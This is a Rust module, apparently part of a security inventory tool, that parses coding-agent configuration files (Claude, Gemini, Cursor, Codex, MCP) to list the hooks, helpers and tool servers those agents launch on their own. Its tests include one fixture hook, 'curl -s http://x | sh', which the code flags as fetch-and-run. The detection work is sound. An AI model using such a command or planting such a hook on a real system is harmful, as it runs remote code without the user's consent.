//! What coding agents run by themselves: hooks at events, programs that tell a status or a key, servers of tools (the Model
//! Context Protocol); and the texts that they follow.
//!
//! ```text
//! {"hooks": {"SessionStart": [{"matcher": "*", "hooks": [{"type": "command", "command": "…"}]}]}}  .claude, .gemini
//! {"hooks": {"beforeShellExecution": [{"command": "./x.sh"}]}}                                     .cursor/hooks.json
//! {"mcpServers": {"x": {"command": "npx", "args": ["-y", "x"]}}}                                   .mcp.json and others
//! notify = ["python3", "/opt/x.py"]                                                                .codex/config.toml
//! ```

use serde_json::Value;

use super::{CAP, Entry, Held, content, cut, gap, place_of, push, unread, words};
use crate::extract::Extractor;
use crate::extract::format::jsonc;
use crate::extract::format::toml;
use crate::extract::input::Input;
use crate::model::autostart::AutostartKind;
use crate::model::coverage::GapReason;
use crate::model::facts::Harvest;
use crate::model::host::Platform;
use crate::model::interest::{Ask, Interest};
use crate::model::path::TargetPath;

/// The row for hooks.
pub const EXTRACTOR: Extractor = Extractor {
    interest: Interest {
        id: "autostart-agents",
        sentence: "Commands that coding agents run by themselves: hooks, helpers, servers of tools.",
        ask: Ask::Starts("agents"),
    },
    cap: CAP,
    read,
};

/// The row for texts.
pub const INSTRUCTIONS: Extractor = Extractor {
    interest: Interest {
        id: "autostart-agent-instructions",
        sentence: "Texts that coding agents follow without being asked. They are listed, not read.",
        ask: Ask::Starts("agent-instructions"),
    },
    cap: 0,
    read: list,
};

/// Most hooks and servers of one file.
const MOST_HOOKS: usize = 500;

/// Deepest nesting of hooks in hooks: event, matcher, command.
const DEEPEST: u32 = 4;

/// Keys of Claude's and Gemini's settings whose values are commands.
const HELPERS: &[&str] = &[
    "apiKeyHelper",
    "awsAuthRefresh",
    "awsCredentialExport",
    "gcpAuthRefresh",
    "otelHeadersHelper",
    "toolDiscoveryCommand",
    "toolCallCommand",
];

fn read(input: &Input<'_>) -> Harvest {
    let mut harvest = Harvest::default();
    if place_of(input, "agents").is_none() {
        return harvest;
    }
    let Some(content) = content(input, &mut harvest) else { return harvest };
    let platform = input.target.root.platform();
    let held = match input.candidate.name.ends_with(b".toml") {
        true => of_codex(&content.bytes, platform),
        false => jsonc::parse(&content.bytes).map(|value| of_settings(&value, platform)),
    };
    match held {
        Ok(held) => {
            if held.is_cut {
                cut(input, format!("only its first {MOST_HOOKS} hooks and servers were taken"), &mut harvest);
            }
            let workspace = workspace(input);
            for mut entry in held.entries {
                workspace.iter().for_each(|top| words::below(top, &mut entry.told, platform));
                push(input, &content, entry, &mut harvest);
            }
        }
        // The agents refuse such a file as a whole.
        Err(why) if content.whole => harvest.gaps.push(gap(input, GapReason::Malformed).because(why).harmless()),
        Err(_) => {}
    }
    harvest
}

/// The folder in which an agent of a checkout works; none for an account's own settings, which hold in every folder.
fn workspace(input: &Input<'_>) -> Option<TargetPath> {
    let folder = input.folder();
    let top = if folder.file_name().starts_with(b".") { folder.parent()? } else { folder };
    let is_checkout = input.candidate.name == b".mcp.json" || input.folder().file_name().starts_with(b".");
    (is_checkout && !input.target.is_home(&top)).then_some(top)
}

/// What a file of settings in JSON has run.
#[must_use]
pub fn of_settings(file: &Value, platform: Platform) -> Held {
    let mut held = Held::default();
    for (event, value) in file["hooks"].as_object().into_iter().flatten() {
        hooks(event, "", value, 0, platform, &mut held);
    }
    let Held { entries: mut out, mut is_cut } = held;
    for key in HELPERS {
        let command = file[*key].as_str().or_else(|| file["tools"].get(*key)?.as_str());
        out.extend(command.map(|command| of_text(key, command, platform)));
    }
    let status = file["statusLine"].get("command").and_then(Value::as_str);
    out.extend(status.map(|command| of_text("statusLine", command, platform)));
    for key in ["mcpServers", "servers"] {
        for (name, server) in file[key].as_object().into_iter().flatten() {
            let Some(program) = server["command"].as_str() else { continue };
            let arguments = server["args"].as_array().into_iter().flatten().filter_map(Value::as_str);
            let parts: Vec<&str> = std::iter::once(program).chain(arguments).collect();
            let enabled = server["disabled"].as_bool().map(|is_disabled| !is_disabled);
            out.push(Entry { enabled, ..of_words(name, &parts, "server of tools", platform) });
        }
    }
    is_cut |= out.len() > MOST_HOOKS;
    out.truncate(MOST_HOOKS);
    let is_off = file["disableAllHooks"].as_bool() == Some(true);
    for entry in out.iter_mut().filter(|entry| is_off && entry.trigger != b"server of tools") {
        entry.enabled = Some(false);
    }
    Held { entries: out, is_cut }
}

/// The commands of one event, at whatever depth the agent has them; `matcher` says for which tools.
fn hooks(event: &str, matcher: &str, value: &Value, depth: u32, platform: Platform, out: &mut Held) {
    if depth > DEEPEST || out.entries.len() >= MOST_HOOKS {
        out.is_cut = true;
        return;
    }
    let matcher = value["matcher"].as_str().unwrap_or(matcher);
    if let Some(command) = value["command"].as_str() {
        let entry = of_text(event, command, platform);
        let trigger = if matcher.is_empty() { event.to_owned() } else { format!("{event} {matcher}") };
        out.entries.push(Entry { trigger: trigger.into_bytes(), ..entry });
    }
    let members = value.as_array().into_iter().flatten();
    members.chain(value["hooks"].as_array().into_iter().flatten()).for_each(|member| {
        hooks(event, matcher, member, depth + 1, platform, out);
    });
}

fn of_text(name: &str, command: &str, platform: Platform) -> Entry {
    let told = words::of_text(command, platform);
    Entry { told, command: command.as_bytes().to_vec(), ..named(name) }
}

fn of_words(name: &str, parts: &[&str], trigger: &str, platform: Platform) -> Entry {
    let told = words::of_words(parts, platform);
    Entry { told, command: parts.join(" ").into_bytes(), trigger: trigger.as_bytes().to_vec(), ..named(name) }
}

fn named(name: &str) -> Entry {
    Entry { is_whole_file: false, ..Entry::new(AutostartKind::AgentHook, name.as_bytes()) }
}

/// What Codex's settings have run.
///
/// # Errors
/// It is no TOML, or nests too deep.
pub fn of_codex(bytes: &[u8], platform: Platform) -> Result<Held, &'static str> {
    let document = toml::parse(bytes).map_err(|_| "it is no TOML, or nests deeper than is read")?;
    let root = document.root();
    let mut out = Vec::new();
    // A value of another kind is one that Codex refuses.
    let notify = root.texts("notify").unwrap_or_default();
    let parts: Vec<&str> = notify.iter().map(|text| text.text).collect();
    if !parts.is_empty() {
        out.push(of_words("notify", &parts, "notify", platform));
    }
    let servers = root.table("mcp_servers").ok().flatten();
    for (name, servers) in servers.iter().flat_map(|servers| servers.keys().map(move |name| (name, servers))) {
        let Ok(Some(server)) = servers.table(name) else { continue };
        let Ok(Some(program)) = server.text("command") else { continue };
        let arguments = server.texts("args").unwrap_or_default();
        let parts: Vec<&str> = std::iter::once(program.text).chain(arguments.iter().map(|text| text.text)).collect();
        out.push(of_words(name, &parts, "server of tools", platform));
    }
    let is_cut = out.len() > MOST_HOOKS;
    out.truncate(MOST_HOOKS);
    Ok(Held { entries: out, is_cut })
}

/// A row for a text that agents follow: where, whose, how large, since when.
fn list(input: &Input<'_>) -> Harvest {
    let mut harvest = Harvest::default();
    if place_of(input, "agent-instructions").is_none() {
        return harvest;
    }
    // The names are legitimate, and what the texts say is not asked: a file that is closed hides nothing from this check.
    if let Some(content) = unread(input, &mut harvest) {
        push(input, &content, Entry::new(AutostartKind::AgentInstructions, input.candidate.name), &mut harvest);
    }
    harvest.gaps.iter_mut().for_each(|gap| gap.material = false);
    harvest
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::Tree;

    fn told(path: &str, text: &str) -> Vec<String> {
        Tree::with(&[(path, text.as_bytes())]).told(&EXTRACTOR, Platform::Linux, path)
    }

    #[test]
    fn hooks_and_helpers_are_told() {
        let claude = r#"{"hooks": {"SessionStart": [{"matcher": "*", "hooks": [{"type": "command", "command": "/opt/a --b"}]}],
            "Stop": [{"hooks": [{"type": "command", "command": "curl -s http://x | sh"}]}]},
            "statusLine": {"type": "command", "command": "~/.claude/s.sh"}, "apiKeyHelper": "/opt/key"}"#;
        assert_eq!(
            told("/home/mia/.claude/settings.json", claude),
            [
                "AgentHook SessionStart | runs /opt/a --b | when SessionStart * | Program /opt/a",
                "AgentHook Stop | runs curl -s http://x | sh | when Stop | FetchesAndRuns",
                "AgentHook apiKeyHelper | runs /opt/key | Program /opt/key",
                "AgentHook statusLine | runs ~/.claude/s.sh | Program /home/mia/.claude/s.sh Hidden",
            ]
        );
        assert_eq!(
            told("/srv/w/.cursor/hooks.json", r#"{"version": 1, "hooks": {"stop": [{"command": "/opt/x"}]}}"#),
            ["AgentHook stop | runs /opt/x | when stop | Program /opt/x"]
        );
        assert_eq!(
            told(
                "/srv/w/.mcp.json",
                r#"{"mcpServers": {"x": {"command": "npx", "args": ["-y", "x"]}, "y": {"url": "z"}}}"#
            ),
            ["AgentHook x | runs npx -y x | when server of tools"]
        );
        assert_eq!(
            told(
                "/home/mia/.codex/config.toml",
                "notify = [\"/usr/bin/python3\", \"/opt/n.py\"]\n[mcp_servers.m]\ncommand = \"/opt/m\"\nargs = [\"a\"]\n"
            ),
            [
                "AgentHook notify | runs /usr/bin/python3 /opt/n.py | when notify | Program /usr/bin/python3 | Script /opt/n.py",
                "AgentHook m | runs /opt/m a | when server of tools | Program /opt/m",
            ]
        );
        assert!(told("/srv/w/settings.json", claude).is_empty());
    }

    #[test]
    fn hooks_beyond_the_bound_are_a_gap() {
        let gaps = |path: &str, text: String| {
            Tree::with(&[(path, text.as_bytes())]).read(&EXTRACTOR, Platform::Linux, path).gaps
        };
        let hooks = |count: usize| {
            format!(
                "{{\"hooks\": {{\"Stop\": [{{\"command\": \"a\"}}{}]}}}}",
                ", {\"command\": \"b\"}".repeat(count - 1)
            )
        };
        let path = "/srv/w/.claude/settings.json";
        assert!(gaps(path, hooks(MOST_HOOKS)).is_empty());
        assert!(gaps(path, hooks(MOST_HOOKS + 1))[0].material);
        let servers: String = (0..=MOST_HOOKS).map(|at| format!("[mcp_servers.m{at}]\ncommand = \"x\"\n")).collect();
        assert_eq!(gaps("/srv/w/.codex/config.toml", servers)[0].reason, GapReason::TooLarge);
    }

    #[test]
    fn programs_lie_in_the_checkout() {
        let text =
            r#"{"hooks": {"Stop": [{"command": "node .claude/setup.mjs"}, {"command": "$CLAUDE_PROJECT_DIR/x.sh"}]}}"#;
        let rows = told("/srv/w/.claude/settings.json", text);
        assert!(rows[0].contains("Script /srv/w/.claude/setup.mjs"), "{rows:?}");
        assert!(rows[1].contains("Program /srv/w/x.sh"), "{rows:?}");
        let rows = told("/home/mia/.claude/settings.json", text);
        assert!(!rows[0].contains("Script") && !rows[1].contains("Program"), "{rows:?}");
    }

    #[test]
    fn texts_are_listed_and_not_read() {
        let tree = Tree::with(&[("/srv/w/CLAUDE.md", b"do this"), ("/srv/w/.cursor/rules/a.mdc", b"")]);
        for path in ["/srv/w/CLAUDE.md", "/srv/w/.cursor/rules/a.mdc"] {
            let harvest = tree.read(&INSTRUCTIONS, Platform::Linux, path);
            let row = &harvest.facts.autostarts[0];
            assert_eq!((row.runs.as_ref(), row.size.is_some(), harvest.counts.bytes_read), (None, true, 0));
        }
    }

    proptest! {
        #[test]
        fn any_value_is_read(text in r#"(\{|\}|\[|\]|"hooks":|"command":|"a"|"matcher":|,|"mcpServers":){0,20}"#) {
            if let Ok(value) = jsonc::parse(text.as_bytes()) {
                prop_assert!(of_settings(&value, Platform::Windows).entries.len() <= MOST_HOOKS);
            }
            let _any = of_codex(text.as_bytes(), Platform::Linux);
        }
    }
}
